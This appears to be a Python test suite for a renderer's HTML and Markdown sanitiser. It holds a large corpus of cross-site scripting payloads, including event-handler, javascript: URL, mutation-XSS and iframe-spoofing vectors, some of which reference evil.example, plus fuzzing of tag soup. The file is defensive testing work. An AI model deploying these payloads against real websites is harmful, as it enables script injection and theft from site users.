"""Sanitising hostile markup; the output is checked with another parser (html5lib, the standard's algorithm)."""

import re
from collections.abc import Iterator
from typing import Literal
from urllib.parse import urlsplit
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from kolom.rendering.renderer import render

FORBIDDEN = frozenset(
    [
        "applet",
        "audio-worklet",
        "base",
        "body",
        "button",
        "embed",
        "fencedframe",
        "form",
        "frame",
        "frameset",
        "head",
        "html",
        "input",
        "link",
        "math",
        "meta",
        "noembed",
        "noframes",
        "noscript",
        "object",
        "option",
        "param",
        "plaintext",
        "script",
        "select",
        "style",
        "svg",
        "template",
        "textarea",
        "title",
        "xmp",
    ]
)
URL_ATTRIBUTES = ("cite", "href", "poster", "src")
PLAYERS = (
    "https://www.youtube-nocookie.com/embed/",
    "https://player.vimeo.com/video/",
    "https://www.dailymotion.com/embed/",
)

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)",
    "<<script>alert(1)//<</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=javascript:alert(1)>",
    "<img src=1 srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x'>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img name=getElementById src=x>",
    "<image src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img src='</noembed><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<textarea><a href='</textarea><img src=x onerror=alert(1)>'>",
    "<iframe><a href='</iframe><img src=x onerror=alert(1)>'>",
    "<style><a href='</style><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--more--!><script>alert(1)</script>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>",
    "<a href='&#x1;javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='blob:https://x/y'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a href=x ping='https://evil.example/'>x</a>",
    "<a id=config href=x>x</a>",
    "<a id=x name=__proto__>x</a>",
    "<p id=kolom-comments>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<object data='javascript:alert(1)'><param name=x value=y></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x></applet>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com.evil.example/embed/x'></iframe>",
    "<iframe src='https://www.youtube.com@evil.example/embed/x'></iframe>",
    "<iframe src='https://www.youtube.com:8443/embed/x'></iframe>",
    "<iframe src='https://www.youtube.com/embed/x\" onload=\"alert(1)'></iframe>",
    "<iframe src='https://www.youtube.com/embed/../redirect?q=x'></iframe>",
    "<iframe src='https://www.youtube.com/embed/x' onload=alert(1) srcdoc=x sandbox name=top></iframe>",
    "<iframe src='https://evil.example/\"><script>alert(1)</script>' title='<script>'></iframe>",
    "<form action='javascript:alert(1)'><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1) autoplay><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=javascript:alert(1) autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><td background='javascript:alert(1)'>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=`<img src=x onerror=alert(1)>`>x</p>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x</p>",
    "<p\x00onclick=alert(1)>x</p>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<p onclick\x0c=alert(1)>x</p>",
    "<a href='https://x/' onmouseover='alert(1)'>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>alert(1)</script>\udfff",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<portal src='javascript:alert(1)'>",
    "<a><table><a href=javascript:alert(1)>",
    "<b id=1><b id=2><b id=3><p></b><script>alert(1)</script>",
]
MARKDOWN_VECTORS = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#x73;cript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '[x](https://x "a\\" onmouseover=\\"alert(1)")',
    '![x"onerror="alert(1)](y.png)',
    '![x](y.png "a\\" onerror=\\"alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|-|\n| x |",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "> <script>\n> alert(1)\n> </script>",
    '<div\n\nonclick="alert(1)">',
    "- [x] <img src=x onerror=alert(1)>",
    "# <a id=config name=x onclick=alert(1)>x",
]


def elements(html: str) -> Iterator[Element]:
    fragment = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=True)
    root = next(fragment.iter())
    yield from (element for element in fragment.iter() if element is not root)


def assert_harmless(html: str) -> None:
    """Check that no element, attribute or URL outside of the policy is in the markup."""
    ids: set[str] = set()
    for element in elements(html):
        assert isinstance(element.tag, str), "a comment is left"
        namespace, _, name = element.tag[1:].partition("}")
        assert namespace == "http://www.w3.org/1999/xhtml"
        assert name not in FORBIDDEN
        assert not [key for key in element.attrib if key.lower().startswith("on")]
        assert not {"style", "srcdoc", "formaction", "action", "name", "autoplay", "ping"} & element.attrib.keys()
        for key in URL_ATTRIBUTES:
            value = element.get(key)
            if value is not None:
                allowed = {"", "http", "https"} | ({"mailto", "tel"} if key in {"href", "cite"} else set())
                assert urlsplit(re.sub(r"[\x00-\x20]", "", value)).scheme.lower() in allowed
        assert not re.search(r"(?i)(^|,)\s*(javascript|data|vbscript):", element.get("srcset", ""))
        if element.get("target") is not None:
            assert "noopener" in element.get("rel", "").split()
            assert "opener" not in element.get("rel", "").split()
        if name == "iframe":
            assert element.get("src", "").startswith(PLAYERS)
            assert set(element.attrib) == {"src", "title", "loading", "allowfullscreen"}
            assert not element.text
        identifier = element.get("id")
        if identifier is not None:
            assert name not in {"img", "iframe", "video", "audio"}
            assert not re.fullmatch(r"[\x21-\x2c\x2e-\x7e]*", identifier), (
                "could be a global variable or the page's own"
            )
            assert not identifier.lower().startswith(("kolom-", "comment-"))
            assert identifier not in ids
            ids.add(identifier)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", html)


def test_the_corpus_is_large() -> None:
    assert len(set(VECTORS + MARKDOWN_VECTORS)) >= 120


@pytest.mark.parametrize("source_format", ["html", "markdown"])
@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_html_becomes_harmless(vector: str, source_format: Literal["html", "markdown"]) -> None:
    assert_harmless(render(vector, source_format).html)


@pytest.mark.parametrize("vector", VECTORS)
def test_hostile_html_becomes_harmless_within_other_markup(vector: str) -> None:
    for before, after in [
        ("<p>", "</p>"),
        ("<table><tr><td>", "</table>"),
        ("<a href=x>", "</a>"),
        ("<pre>", "</pre>"),
    ]:
        assert_harmless(render(f"{before}{vector}{after}", "html").html)


@pytest.mark.parametrize("vector", MARKDOWN_VECTORS)
def test_hostile_markdown_becomes_harmless(vector: str) -> None:
    assert_harmless(render(vector, "markdown").html)


@pytest.mark.parametrize(
    "answer",
    ["javascript:alert(1)", 'x" onerror="alert(1)', "data:image/png;base64,xx", "\x01javascript:1", ", y 2x", ""],
)
def test_the_results_of_a_resolver_are_sanitised_too(answer: str) -> None:
    source = "<img src=a.png srcset='a.png 1x'><a href=b.pdf>x</a><video src=c poster=d></video>"
    assert_harmless(render(source, "html", resolve=lambda _: answer).html)


tags = st.sampled_from(
    [
        "a",
        "b",
        "i",
        "p",
        "div",
        "span",
        "h1",
        "h2",
        "h3",
        "table",
        "tr",
        "td",
        "th",
        "caption",
        "tbody",
        "ul",
        "li",
        "ol",
        "dl",
        "dt",
        "dd",
        "pre",
        "code",
        "blockquote",
        "button",
        "svg",
        "math",
        "select",
        "option",
        "form",
        "input",
        "iframe",
        "img",
        "br",
        "hr",
        "object",
        "noscript",
        "script",
        "style",
        "title",
        "textarea",
        "template",
        "font",
        "center",
        "xmp",
        "figure",
        "details",
        "summary",
        "ruby",
        "rt",
        "video",
        "source",
        "sup",
        "colgroup",
        "col",
        "section",
        "nobr",
    ]
)
attributes = st.sampled_from(
    [
        "",
        " id=x",
        " id='a b'",
        " id=a-b",
        " name=more",
        " name=q",
        " href=#x",
        " href='javascript:x'",
        " href=f.pdf target=_blank",
        " src=a.png",
        " src='https://www.youtube.com/embed/x'",
        " src=https://e.example/",
        " style='text-align:center'",
        " class='language-x y'",
        " title='<\"&amp;'",
        " srcset='a.png 1x, b.png 2x'",
        " onclick=x",
        " title='",
    ]
)
soup = st.lists(
    st.one_of(
        st.builds("<{}{}{}>".format, tags, attributes, attributes),
        st.builds("</{}>".format, tags),
        st.sampled_from(
            ["\n", "\n\n", "&", "&lt;", "<", "<!--more-->", "<!--", "-->", "<!", "</", "]]>", "&#1;", "'", '"']
        ),
        st.text(max_size=5),
    ),
    max_size=25,
).map("".join)


@given(soup)
def test_tag_soup_becomes_harmless(source: str) -> None:
    assert_harmless(render(source, "html").html)


@given(soup)
def test_markdown_with_tag_soup_becomes_harmless(source: str) -> None:
    assert_harmless(render(source, "markdown").html)


@given(soup)
@example("<pre>\n\n\nx</pre>")
@example("<a href=x><table><a href=y>z")
@example("<p><button><p>x")
@example("<h1>a</h1><h6>b</h6>")
def test_rendering_its_own_output_changes_nothing(source: str) -> None:
    html = render(source, "html").html
    assert render(html, "html").html == html


@given(st.text(max_size=300))
def test_rendering_the_html_of_markdown_again_changes_nothing(source: str) -> None:
    html = render(source, "markdown").html
    assert render(html, "html").html == html


@given(st.text())
def test_escaped_text_is_kept(source: str) -> None:
    """Text that an author escaped is shown, except for characters that HTML forbids."""
    shown = re.sub(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", "", source.replace("\r\n", "\n").replace("\r", "\n")
    )
    shown = re.sub(r"[\ud800-\udfff]", "�", shown)
    escaped = source.replace("&", "&amp;").replace("<", "&lt;")
    fragment = html5lib.parseFragment(render(f"<p>.{escaped}</p>", "html").html, treebuilder="etree")
    assert "".join(fragment.itertext()) == "." + shown
